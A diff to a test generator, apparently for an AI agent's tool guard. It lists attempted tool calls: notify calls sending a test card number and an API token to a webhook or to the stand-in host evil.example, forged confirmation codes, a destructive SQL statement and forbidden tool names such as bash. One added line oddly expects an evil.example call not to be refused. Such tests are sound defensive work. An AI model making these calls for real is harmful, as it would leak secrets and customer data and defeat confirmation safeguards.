@@ -384,13 +384,14 @@ def lookups() -> Iterator[Attempt]:
     yield Attempt("catalog_search", {"text": "name"}, refused=False)
     yield Attempt("explain_query", {"sql": "select * from hr.salaries"})
     yield Attempt("explain_query", {"sql": "analyze delete from raw.orders"})
-    leak = {"to": "hook", "title": "keys"}
+    leak = {"to": "hook", "title": "keys", "dry_run": False}
     yield Attempt("notify", leak | {"text": "ana@example.com paid with 4111 1111 1111 1111"})
     yield Attempt("notify", leak | {"text": "SHOP_API_TOKEN=whatItReadSomewhere1"})
     yield Attempt("notify", leak)
     yield Attempt("notify", leak | {"confirm": "00000000"})
     yield Attempt("notify", leak | {"confirm": "yes", "text": "go on"})
-    yield Attempt("notify", {"to": "https://evil.example/x", "title": "keys"})
+    yield Attempt("notify", leak | {"to": "https://evil.example/x"})
+    yield Attempt("notify", {"to": "https://evil.example/x", "title": "keys"}, refused=False)
     yield Attempt("run_sql", {"sql": "select 1", "confirm": "00000000"})
     yield Attempt("search_code", {"pattern": "a" * 300_000})
     for name in ("bash", "delete_file", "write_file", "git_push", "approve", "__import__", ""):
